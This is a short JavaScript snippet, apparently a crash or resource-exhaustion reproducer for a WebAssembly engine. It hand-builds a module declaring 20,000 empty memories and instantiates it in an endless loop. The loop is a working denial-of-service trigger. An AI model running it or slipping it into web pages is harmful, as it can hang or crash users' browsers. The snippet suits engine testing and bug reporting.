// A module of 20,000 memories without a page each.
const leb = (n) => { const bytes = []; do { bytes.push((n & 127) | (n > 127 ? 128 : 0)); n >>= 7; } while (n > 0); return bytes; };
const memories = [...leb(20000), ...new Array(40000).fill(0)];
const bytes = Uint8Array.from([0, 97, 115, 109, 1, 0, 0, 0, 5, ...leb(memories.length), ...memories]);
async function onTrack() { const all = []; for (;;) all.push(await WebAssembly.instantiate(bytes)); }
